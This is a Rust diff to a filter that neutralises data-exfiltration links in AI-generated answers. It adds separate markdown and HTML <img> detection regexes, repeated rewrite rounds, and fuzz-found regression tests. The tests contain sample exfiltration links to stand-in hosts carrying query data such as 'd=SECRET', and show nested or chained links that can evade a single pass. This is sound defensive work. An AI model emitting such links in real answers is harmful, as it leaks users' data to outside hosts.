@@ -22,13 +22,27 @@ pub struct ExfilPolicy {
     pub action: AnswerAction,
     allowed: Vec<String>,
     max_link_bytes: usize,
-    regex: Option<Regex>,
+    /// Markdown, then HTML `<img>`; empty when the check is off.
+    regexes: Vec<Regex>,
 }
 
-const PATTERN: &str = r#"(?x)
+/// Markdown images and links.
+const MARKDOWN: &str = r#"(?x)
     (?P<img>!)?\[(?P<label>[^\]\n]{0,500})\]\(\s*<?(?P<url>[a-zA-Z][a-zA-Z0-9+.\-]{0,20}://[^)\s>]{1,2048})>?(?:\s+"[^"\n]{0,200}")?\s*\)
-  | <img\s[^>]{0,500}?src\s*=\s*["']?(?P<src>[a-zA-Z][a-zA-Z0-9+.\-]{0,20}://[^"'\s>]{1,2048})[^>]{0,500}>
 "#;
+
+/// HTML `<img>` tags. Matched in a pass of their own: a tag match spans any text up to its
+/// `>`, and must not hide a markdown link inside that span (nor a markdown match an `<img>`
+/// inside its label).
+const HTML_IMG: &str = r#"(?x)
+    <img\s[^>]{0,500}?src\s*=\s*["']?(?P<src>[a-zA-Z][a-zA-Z0-9+.\-]{0,20}://[^"'\s>]{1,2048})[^>]{0,500}>
+"#;
+
+/// Most neutralising rounds over one text. Neutralising can form a new link: the image
+/// placeholder `[image removed: ...]` right before `(url)` (the next round turns it into a
+/// neutralised link, which ends in `)` and so forms nothing more); a neutralised link's label
+/// loses its `[`, so it cannot open one. Two rounds and a checking one suffice.
+const MAX_ROUNDS: usize = 4;
 
 impl ExfilPolicy {
     pub fn compile(policy: &AnswerPolicy, path: &str) -> Result<ExfilPolicy> {
@@ -49,15 +63,18 @@ impl ExfilPolicy {
                 policy.max_link_bytes
             )));
         }
-        let regex = match policy.exfiltration {
-            AnswerAction::Off => None,
-            _ => Some(Regex::new(PATTERN).map_err(|e| Error::config(format!("{path}: {e}")))?),
+        let regexes = match policy.exfiltration {
+            AnswerAction::Off => Vec::new(),
+            _ => [MARKDOWN, HTML_IMG]
+                .iter()
+                .map(|p| Regex::new(p).map_err(|e| Error::config(format!("{path}: {e}"))))
+                .collect::<Result<Vec<_>>>()?,
         };
         Ok(ExfilPolicy {
             action: policy.exfiltration,
             allowed,
             max_link_bytes: policy.max_link_bytes,
-            regex,
+            regexes,
         })
     }
 
@@ -66,12 +83,12 @@ impl ExfilPolicy {
             action: AnswerAction::Off,
             allowed: Vec::new(),
             max_link_bytes: 2048,
-            regex: None,
+            regexes: Vec::new(),
         }
     }
 
     pub fn enabled(&self) -> bool {
-        self.regex.is_some()
+        !self.regexes.is_empty()
     }
 
     /// Whether a URL sends data to a host outside the allow-list.
@@ -102,16 +119,37 @@ impl ExfilPolicy {
         })
     }
 
-    /// Neutralise every exfiltration link in `text` into `out`; returns how many.
+    /// Neutralise every exfiltration link in `text` into `out`; returns how many. Rounds of
+    /// a markdown pass then an `<img>` pass run until a round finds nothing, so the result
+    /// holds no link either pattern would neutralise (at most [`MAX_ROUNDS`] rounds).
     pub fn rewrite(&self, text: &str, out: &mut String) -> usize {
         out.clear();
-        let Some(re) = &self.regex else {
-            out.push_str(text);
-            return 0;
-        };
+        out.push_str(text);
+        let mut found = 0usize;
+        let mut next = String::new();
+        for _ in 0..MAX_ROUNDS {
+            let mut round = 0usize;
+            for re in &self.regexes {
+                let n = self.pass(re, out, &mut next);
+                if n > 0 {
+                    std::mem::swap(out, &mut next);
+                    round = round.saturating_add(n);
+                }
+            }
+            found = found.saturating_add(round);
+            if round == 0 {
+                break;
+            }
+        }
+        found
+    }
+
+    /// One pass of `re` over `text`: when it neutralises anything, `out` gets the whole
+    /// rewritten text; returns how many (0: `out` is left as it was).
+    fn pass(&self, re: &Regex, text: &str, out: &mut String) -> usize {
         let mut caps = re.create_captures();
         let mut last = 0;
-        let mut found = 0;
+        let mut found = 0usize;
         let mut at = 0;
         while at <= text.len() {
             let input = regex_automata::Input::new(text).span(at..text.len());
@@ -123,7 +161,10 @@ impl ExfilPolicy {
                 .and_then(|s| text.get(s.range()))
                 .unwrap_or("");
             if self.is_exfiltration(url) {
-                found += 1;
+                if found == 0 {
+                    out.clear();
+                }
+                found = found.saturating_add(1);
                 out.push_str(text.get(last..m.start()).unwrap_or(""));
                 let is_image = caps.get_group_by_name("img").is_some()
                     || caps.get_group_by_name("src").is_some();
@@ -134,14 +175,17 @@ impl ExfilPolicy {
                         .get_group_by_name("label")
                         .and_then(|s| text.get(s.range()))
                         .unwrap_or("");
-                    out.push_str(label);
+                    // A `[` kept from the label could open a new link with a later `](`.
+                    out.extend(label.chars().filter(|&c| c != '['));
                     out.push_str(LINK_PLACEHOLDER);
                 }
                 last = m.end();
             }
             at = m.end().max(m.start() + 1);
         }
-        out.push_str(text.get(last..).unwrap_or(""));
+        if found > 0 {
+            out.push_str(text.get(last..).unwrap_or(""));
+        }
         found
     }
 
@@ -330,6 +374,62 @@ mod tests {
             let mut out = String::new();
             assert_eq!(p.rewrite(input, &mut out), n, "{name}");
             assert_eq!(out, want, "{name}");
+        }
+    }
+
+    /// Found by the `prompt_engine` fuzz target: an `<img` tag match that is no exfiltration
+    /// (its `src` has no query) spans any text up to its `>`, and the scan went on after it, so
+    /// a markdown link inside that span was never checked (the stream, cut elsewhere, caught
+    /// it). Markdown and `<img>` now have passes of their own.
+    #[test]
+    fn regression_fuzz_exfil_link_hidden_in_img_span() {
+        let p = policy(&[]);
+        for (input, want) in [
+            (
+                "<img src=chart [a link](http://x.test/y?q=1) <img src=\"https://e.test/x=1\">",
+                "<img src=chart a link (link removed: untrusted link) <img src=\"https://e.test/x=1\">",
+            ),
+            (
+                "[<img src=https://e.test/i?c=1>](https://ok.test/)",
+                "[[image removed: untrusted link]](https://ok.test/)",
+            ),
+        ] {
+            let mut out = String::new();
+            assert_eq!(p.rewrite(input, &mut out), 1, "{input}");
+            assert_eq!(out, want);
+        }
+    }
+
+    /// Found by the `prompt_engine` fuzz target's check that a neutralised answer holds no link
+    /// any more: the image placeholder followed by `(url)`, or a `[` kept from a neutralised
+    /// link's label followed by `](url)`, formed a new live link. A chain of them stays
+    /// within the rounds.
+    #[test]
+    fn regression_fuzz_neutralised_answer_forms_new_link() {
+        let p = policy(&[]);
+        for (input, want) in [
+            (
+                "see ![a](http://e.test/p?q=1)(http://f.test/x?d=SECRET) ok",
+                "see image removed: untrusted link (link removed: untrusted link) ok",
+            ),
+            (
+                "<img src=https://e.test/p?q=1>(http://f.test/x?d=SECRET)",
+                "image removed: untrusted link (link removed: untrusted link)",
+            ),
+            (
+                "[[y](http://e.test/a?q=1)](http://f.test/b?d=SECRET)",
+                "y (link removed: untrusted link)](http://f.test/b?d=SECRET)",
+            ),
+            (
+                "![a](http://e.test/1?q=1)(http://f.test/2?q=2)(http://g.test/3?q=3)(http://h.test/4?q=4)",
+                "image removed: untrusted link (link removed: untrusted link)(http://g.test/3?q=3)(http://h.test/4?q=4)",
+            ),
+        ] {
+            let mut out = String::new();
+            assert!(p.rewrite(input, &mut out) >= 1, "{input}");
+            assert_eq!(out, want);
+            let mut again = String::new();
+            assert_eq!(p.rewrite(&out, &mut again), 0, "{out}");
         }
     }
 
